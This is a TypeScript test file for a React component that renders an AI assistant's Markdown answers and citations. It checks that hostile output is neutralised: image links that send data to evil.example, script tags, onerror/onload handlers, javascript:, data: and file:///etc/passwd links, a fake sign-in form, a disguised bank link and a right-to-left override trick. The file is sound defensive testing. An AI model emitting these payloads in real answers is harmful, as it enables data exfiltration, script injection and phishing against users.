/** What a model (or whoever wrote into its documents) may try in an answer, and what a person sees of it. */
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { Citation, CitationSource } from '../../../shared/model/chat.ts';
import { MarkdownView, type MarkdownViewProps } from './markdown-view.tsx';

afterEach(cleanup);

const source: CitationSource = {
  n: 1,
  chunkId: 'c1',
  documentId: 'd1',
  title: 'Harbour rules',
  sourceName: 'harbour.md',
  page: null,
  headingPath: [],
  snippet: 'At the quay',
  strength: 'strong',
};
const cites = (text: string, support: Citation['support'], mark = '[1]'): Citation => {
  const markStart = text.lastIndexOf(mark);
  return { n: 1, answerStart: 0, answerEnd: markStart, markStart, markEnd: markStart + mark.length, support };
};
function draw(text: string, more: Partial<MarkdownViewProps> = {}): HTMLElement {
  const props: MarkdownViewProps = {
    text,
    citations: [],
    streaming: false,
    sources: new Map([[1, source]]),
    onOpen: () => undefined,
    onLink: () => undefined,
    ...more,
  };
  return render(<MarkdownView {...props} />).container;
}
/** Elements that load something or run something by themselves. */
const active = 'img, a, script, iframe, object, embed, style, link, form, svg, video, audio, source, [href], [src]';

describe('Markdown of an answer', () => {
  it('is drawn: headings, lists, tables, code, emphasis', () => {
    const container = draw(
      '# Night\n\nAt **high** tide:\n\n3. one\n4. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```sh\nls\n```\n',
    );
    expect(screen.getByRole('heading', { name: 'Night' })).toBeTruthy();
    expect(container.querySelector('strong')?.textContent).toBe('high');
    expect(container.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(screen.getAllByRole('cell').map((cell) => cell.textContent)).toEqual(['1', '2']);
    expect(container.querySelector('pre')?.textContent).toBe('ls');
    expect(screen.getByRole('button', { name: 'Copy this code' })).toBeTruthy();
  });

  it.each([
    ['an image', '![a secret](https://evil.example/x.png?d=1)'],
    ['an image by reference', '![a][r]\n\n[r]: https://evil.example/y.png'],
    ['a script', '<script>globalThis.hit = 1</script>'],
    ['an image of HTML', '<img src="https://evil.example/z" onerror="globalThis.hit = 1">'],
    ['a frame', '<iframe srcdoc="<p>x</p>"></iframe>'],
    ['a style', '<style>@import url(https://evil.example/s.css)</style>'],
    ['a drawing', '<svg onload="globalThis.hit = 1"></svg>'],
    ['a link of HTML', '<a href="javascript:globalThis.hit = 1">click</a>'],
    ['a script behind a link', '[click](javascript:globalThis.hit=1)'],
    ['data behind a link', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
    ['a file behind a link', '[click](file:///etc/passwd)'],
    ['a form', '<form action="https://evil.example"><button>Sign in</button></form>'],
    ['entities', '&lt;img src=x onerror=alert(1)&gt; &#106;avascript:alert(1)'],
    ['an autolink', '<javascript:alert(1)>'],
  ])('loads and runs nothing: %s', (_name, text) => {
    const container = draw(text);
    expect(container.querySelectorAll(active)).toHaveLength(0);
    expect(container.textContent?.trim()).not.toBe('');
    for (const element of container.querySelectorAll('*')) {
      expect([...element.attributes].filter(({ name }) => name.startsWith('on'))).toEqual([]);
    }
  });

  it('shows an image as its words and the host it would have been fetched from', () => {
    expect(draw('![the plan](https://evil.example/x.png)').textContent).toBe(
      'Image not loaded: the plan (evil.example)',
    );
  });

  it('shows where a link leads and only asks', () => {
    const onLink = vi.fn();
    draw('See [bank.example](https://bank.example@evil.example/login).', { onLink });
    const link = screen.getByRole('button');
    expect(link.textContent).toBe('bank.example(evil.example)');
    fireEvent.click(link);
    expect(onLink).toHaveBeenCalledExactlyOnceWith('https://bank.example@evil.example/login');
  });

  it('shows hidden characters', () => {
    expect(draw('safe\u202etxt.exe').textContent).toBe('safe‹U+202E›txt.exe');
  });

  it('takes very deep nesting', () => {
    expect(() => draw(`${'> '.repeat(3000)}x`)).not.toThrow();
    expect(() => draw(`${'['.repeat(3000)}x${']('.repeat(3000)}`)).not.toThrow();
    expect(() => draw(`${'*'.repeat(5000)}x`)).not.toThrow();
  });
});

describe('citations in Markdown', () => {
  it('say how well the passage bears them out, and open it', () => {
    const onOpen = vi.fn();
    const text = 'It is **open** [1].';
    draw(text, { citations: [cites(text, 'weak')], onOpen });
    fireEvent.click(screen.getByRole('button', { name: 'Source 1: Harbour rules, weakly supported' }));
    expect(onOpen).toHaveBeenCalledWith(source);
  });

  it('within code are what was written', () => {
    const text = 'Use `a[1]` as in\n\n```js\nb[1]\n```\n\nfor the quay [1].';
    const all = [...text.matchAll(/\[1\]/g)].map((match) => ({
      ...cites(text, 'strong'),
      markStart: match.index,
      markEnd: match.index + 3,
    }));
    const container = draw(text, { citations: all });
    expect([...container.querySelectorAll('code')].map((code) => code.textContent)).toEqual(['a[1]', 'b[1]']);
    expect(screen.getAllByRole('button', { name: /^Source 1/ })).toHaveLength(1);
  });

  it('are no links, whatever follows them', () => {
    const text = 'At the quay [1](https://evil.example).';
    draw(text, { citations: [cites(text, 'strong')] });
    expect(screen.getAllByRole('button').map((button) => button.getAttribute('aria-label'))).toEqual([
      'Source 1: Harbour rules, well supported',
    ]);
  });

  it('close emphasis as the bracket did', () => {
    const text = '**"Open."**[1] Then.';
    const container = draw(text, { citations: [cites(text, 'strong')] });
    expect(container.querySelector('strong')?.textContent).toBe('"Open."');
  });
});

it('an answer that grows draws only its last part anew', () => {
  const paragraphs = Array.from({ length: 40 }, (_, n) => `Paragraph ${n} of the answer.`);
  const props: MarkdownViewProps = {
    text: '',
    citations: null,
    streaming: true,
    sources: new Map(),
    onOpen: () => undefined,
    onLink: () => undefined,
  };
  const { container, rerender } = render(<MarkdownView {...props} text={`${paragraphs.join('\n\n')}\n`} />);
  const first = container.querySelector('p');
  const changed: Node[] = [];
  const observer = new MutationObserver((records) => changed.push(...records.map((record) => record.target)));
  observer.observe(container, { childList: true, characterData: true, subtree: true });
  rerender(<MarkdownView {...props} text={`${paragraphs.join('\n\n')}\n\nOne more`} />);
  changed.push(...observer.takeRecords().map((record) => record.target));
  observer.disconnect();
  expect(container.querySelector('p')).toBe(first);
  expect(container.textContent).toContain('One more');
  expect(changed.some((node) => first?.contains(node))).toBe(false);
});
